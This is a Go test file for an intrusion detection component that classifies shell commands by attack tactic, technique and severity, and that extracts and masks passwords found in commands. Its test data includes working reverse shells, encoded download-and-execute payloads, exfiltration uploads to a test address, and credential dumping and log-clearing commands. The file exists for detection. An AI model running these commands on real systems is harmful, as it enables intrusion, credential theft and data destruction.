package action

import (
	"encoding/base64"
	"slices"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/tocsin-ids/tocsin"
)

// best is the most telling meaning of a line.
func best(line string, sh shell) meaning {
	all := readCommand(line, sh, nil, &masker{know: own})
	var m meaning
	for i := range all {
		if i == 0 || weight(&all[i]) > weight(&m) {
			m = all[i]
		}
	}
	return m
}

func encoded(s string) string {
	var b []byte
	for _, u := range utf16.Encode([]rune(s)) {
		b = append(b, byte(u), byte(u>>8))
	}
	return base64.StdEncoding.EncodeToString(b)
}

func TestCommandMeaning(t *testing.T) {
	for _, c := range []struct {
		sh                      shell
		line, tactic, technique string
		level                   tocsin.Level
	}{
		// Looking around.
		{posix, "whoami", "discovery", "T1033", tocsin.Low},
		{posix, "sudo -n id", "discovery", "T1033", tocsin.Low},
		{posix, "cat /etc/passwd | cut -d: -f1", "discovery", "T1087.001", tocsin.Low},
		{cmdexe, `net group "Domain Admins" /domain`, "discovery", "T1069.002", tocsin.Medium},
		{cmdexe, `cmd.exe /c "whoami & ipconfig /all"`, "discovery", "T1033", tocsin.Low},

		// Scans: by name, and by what they are given.
		{posix, "nmap -sV 192.0.2.0/24", "discovery", "T1046", tocsin.Medium},
		{posix, "toolx --fast 192.0.2.0/24 -o out", "discovery", "T1046", tocsin.Medium},
		{posix, "toolx 192.0.2.1 192.0.2.2 192.0.2.3 192.0.2.4", "discovery", "T1018", tocsin.Medium},
		{posix, "gobuster dir -u http://web.example -w /usr/share/wordlists/dirs.txt", "reconnaissance", "T1595.003", tocsin.Medium},

		// Credentials.
		{posix, "cat /etc/shadow", "credential-access", "T1003.008", tocsin.Medium},
		{posix, "toolx corp.example/alice:Winter2026@192.0.2.7", "lateral-movement", "T1021", tocsin.Medium},
		{posix, "toolx 192.0.2.7 -u alice -H 0123456789abcdef0123456789abcdef", "lateral-movement", "T1550.002", tocsin.Medium},
		{posix, "toolx 192.0.2.7 -u alice -p Winter2026", "lateral-movement", "T1078", tocsin.Medium},
		{posix, "curl -s http://169.254.169.254/latest/meta-data/iam/", "credential-access", "T1552.005", tocsin.Medium},
		{cmdexe, `reg save HKLM\SAM C:\temp\s`, "credential-access", "T1003.002", tocsin.High},
		{cmdexe, `rundll32 C:\Windows\System32\comsvcs.dll MiniDump 624 C:\temp\l.dmp full`, "credential-access", "T1003.001", tocsin.High},
		{cmdexe, `ntdsutil "ac i ntds" ifm "create full c:\temp" q q`, "credential-access", "T1003.003", tocsin.High},

		// Shells, nested and encoded.
		{posix, "bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'", "command-and-control", "T1059.004", tocsin.High},
		{posix, "nc 203.0.113.9 4444 -e /bin/sh", "command-and-control", "T1059", tocsin.High},
		{posix, "curl -s http://203.0.113.9/x | bash", "command-and-control", "T1105", tocsin.Medium},
		{posix, "echo " + base64.StdEncoding.EncodeToString([]byte("cat /etc/shadow | head")) + " | base64 -d | sh", "credential-access", "T1003.008", tocsin.Medium},
		{posix, "bash -c {echo," + base64.StdEncoding.EncodeToString([]byte("bash -i >& /dev/tcp/203.0.113.9/443 0>&1")) + "}|{base64,-d}|{bash,-i}", "command-and-control", "T1059.004", tocsin.High},
		{cmdexe, "powershell -nop -w hidden -enc " + encoded("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')"), "command-and-control", "T1105", tocsin.Medium},
		{powershell, "I`nvoke-Mim`ikatz", "credential-access", "T1003.001", tocsin.High},
		{powershell, "$c = New-Object Net.Sockets.TcpClient('203.0.113.9',4444); $s = $c.GetStream()", "command-and-control", "T1059", tocsin.High},

		// Staying, hiding, leaving, breaking.
		{posix, "echo 'ssh-ed25519 AAAA x' >> /root/.ssh/authorized_keys", "persistence", "T1098.004", tocsin.Medium},
		{posix, "useradd -m -G sudo svc", "persistence", "T1136.001", tocsin.Low},
		{cmdexe, `net user helper Passw0rd! /add`, "persistence", "T1136", tocsin.Medium},
		{posix, "history -c", "stealth", "T1070.003", tocsin.Medium},
		{cmdexe, `wevtutil cl Security`, "defense-impairment", "T1685.005", tocsin.Medium},
		{posix, "systemctl stop auditd", "defense-impairment", "T1685", tocsin.Medium},
		{posix, "tar czf /tmp/h.tgz /home /etc/ssl", "collection", "T1560.001", tocsin.Low},
		{posix, "curl -T /tmp/h.tgz http://203.0.113.9/u", "exfiltration", "T1567", tocsin.Medium},
		{cmdexe, `vssadmin delete shadows /all /quiet`, "impact", "T1490", tocsin.High},
	} {
		m := best(c.line, c.sh)
		if m.Tactic != c.tactic || m.Technique != c.technique || m.Level != c.level {
			t.Errorf("%s\n  is %s %s %s, want %s %s %s", c.line, m.Tactic, m.Technique, m.Level, c.tactic, c.technique, c.level)
		}
	}
}

// TestOrdinaryCommands holds that what people and coding agents run all day means nothing.
func TestOrdinaryCommands(t *testing.T) {
	for _, line := range []string{
		"git push origin main", "go test ./...", "npm run build && npm test", "make -j4", "docker build -t app .", "docker compose up -d",
		"grep -rn TODO src", "sed -i 's/a/b/' config.json", "python3 -m pytest -q tests/test_api.py", "kubectl get pods -n shop", "psql -h db.example -U app -c 'select 1'",
		"curl -s https://api.example.com/v1/items", "ssh deploy@web.example", "rsync -a dist/ web.example:/srv/www/", "pip install -r requirements.txt", "cd /srv/app && ls -la",
		"cat README.md", "for f in *.go; do gofmt -l $f; done", "node server.js --port 3000", "systemctl status nginx", "terraform plan -out plan.bin", "find . -name '*.go' -newer go.mod",
		"echo hello > out.txt", "mkdir -p build && cp a b", "aws s3 ls s3://bucket", "apt-get install -y jq", "tail -f /var/log/nginx/access.log", "cargo build --release",
	} {
		if m := best(line, posix); m.Level > tocsin.Informational {
			t.Errorf("%s: %s %s %s, want informational", line, m.Tactic, m.Technique, m.Level)
		}
	}
}

// The account that a command logs in as on its targets leads to who has to be locked; ordinary commands keep none.
func TestCommandAccounts(t *testing.T) {
	for line, want := range map[string]string{
		"netexec smb 192.0.2.7 192.0.2.8 -u CORP\\\\alice -p Winter2026":      "alice",
		"toolx corp.example/alice:Winter2026@192.0.2.7":                       "alice",
		"impacket-GetUserSPNs corp.example/alice:Winter2026 -dc-ip 192.0.2.7": "alice",
		"smbclient -L //192.0.2.7/ -U alice%Winter2026":                       "alice",
		"ssh bob@192.0.2.9 'sudo cat /etc/shadow'":                            "bob",
		"hydra -l root -P /usr/share/wordlists/rockyou.txt ssh://192.0.2.9":   "root",
		"hydra -L users.txt -P pass.txt ssh://192.0.2.9":                      "",
		"ssh bob@192.0.2.9 uptime":                                            "",
		"sort -u names":                                                       "",
		"nmap -sV 192.0.2.0/24":                                               "",
	} {
		got := ""
		for _, m := range readCommand(line, posix, nil, &masker{know: own}) {
			for _, k := range m.Marks {
				if v, ok := strings.CutPrefix(k, "account:"); ok {
					got = v
				}
			}
		}
		if got != want {
			t.Errorf("%s: %q, want %q", line, got, want)
		}
	}
}

// What ssh runs on another machine was done there.
func TestCommandElsewhere(t *testing.T) {
	for line, want := range map[string]string{
		"ssh bob@192.0.2.9 'sudo cat /etc/shadow'":       "192.0.2.9",
		"ssh -p 2222 db1.corp.example 'cat /etc/shadow'": "db1.corp.example",
		"ssh bob@192.0.2.9 'nmap -sV 198.51.100.7'":      "198.51.100.7",
		"sudo cat /etc/shadow":                           "",
	} {
		m := best(line, posix)
		if len(m.On) != min(len(want), 1) || want != "" && m.On[0].Value != want {
			t.Errorf("%s: on %v, want %q", line, m.On, want)
		}
		if through := strings.HasPrefix(line, "ssh") && !strings.Contains(line, "nmap"); m.via != through {
			t.Errorf("%s: through a remote shell: %v", line, m.via)
		}
	}
}

func TestCommandSecrets(t *testing.T) {
	for line, secret := range map[string]string{
		"sshpass -p Winter2026 ssh root@192.0.2.1":           "Winter2026",
		"mysql -uroot -pS3cret-9 -e 'show databases'":        "S3cret-9",
		"mysqldump -u app -pS3cret-9 shop":                   "S3cret-9",
		"sqlcmd -S db -U sa -P S3cret-9 -Q 'select 1'":       "S3cret-9",
		"redis-cli -h cache -a S3cret-9 keys '*'":            "S3cret-9",
		"toolx 192.0.2.7 -u alice -p 'Winter2026'":           "Winter2026",
		"smbclient //192.0.2.1/x -U alice%Winter2026 -c ls":  "Winter2026",
		"toolx -hashes :0123456789abcdef0123456789abcdef x":  "0123456789abcdef0123456789abcdef",
		"toolx corp.example/alice:Winter2026@dc.example.com": "Winter2026",
	} {
		m := best(line, posix)
		if !slices.Contains(m.Secrets, secret) {
			t.Errorf("%s: secrets %q, want %s", line, m.Secrets, secret)
		}
		if strings.Contains(maskedLine(line), secret) {
			t.Errorf("%s: the secret stands in %q", line, maskedLine(line))
		}
	}
}

func TestCommandBounds(t *testing.T) {
	nested := "id"
	for range 40 {
		nested = "sh -c " + "\"" + nested + "\""
	}
	for _, line := range []string{nested, strings.Repeat("a;", 50_000), strings.Repeat("$(", 10_000), strings.Repeat("'", 9999), strings.Repeat(`"\\`, 30_000), strings.Repeat("pscredential(", 5000), strings.Repeat("password: '", 5000), strings.Repeat("<<E\n", 9999), strings.Repeat("://a:b", 9999), strings.Repeat("a=[", 9999), strings.Repeat("sudo ", 20_000), "\x00\xff\xfe"} {
		if n := len(readCommand(line, posix, nil, &masker{know: own})); n > maxCommands {
			t.Errorf("%d commands of %.20q", n, line)
		}
		if text, found := (&masker{know: own}).line(line); len(text) > maxMasked+64 || len(found) > maxSecrets {
			t.Errorf("%d bytes and %d secrets of %.20q", len(text), len(found), line)
		}
	}
}

func FuzzCommand(f *testing.F) {
	f.Add("bash -c 'id; cat /etc/shadow' | base64", uint8(0))
	f.Add(`cmd /c "net user x y /add & whoami"`, uint8(1))
	f.Add("$a = 'b'+'c'; IEX $a | % { Get-Process }", uint8(2))
	f.Fuzz(func(t *testing.T, line string, sh uint8) {
		for _, m := range readCommand(line, shell(sh%4), nil, &masker{know: own}) {
			if m.Tactic == "stdin" || m.Verb != "" && !slices.Contains(tocsin.Verbs[:], m.Verb) {
				t.Errorf("%q: %+v", line, m)
			}
		}
	})
}

func BenchmarkCommand(b *testing.B) {
	for name, line := range map[string]string{"words": "ls -la /srv/app", "parsed": "cd /srv && for f in *.log; do gzip \"$f\" > out 2>&1; done", "pipe": "ps aux | grep nginx | awk '{print $2}'"} {
		b.Run(name, func(b *testing.B) {
			b.ReportAllocs()
			var out []meaning
			mask := &masker{know: own}
			for range b.N {
				if out = readCommand(line, posix, out[:0], mask); len(out) == 0 {
					b.Fatal("no meaning")
				}
			}
		})
	}
}

func maskedLine(line string) string {
	text, _ := (&masker{know: own}).line(line)
	return text
}
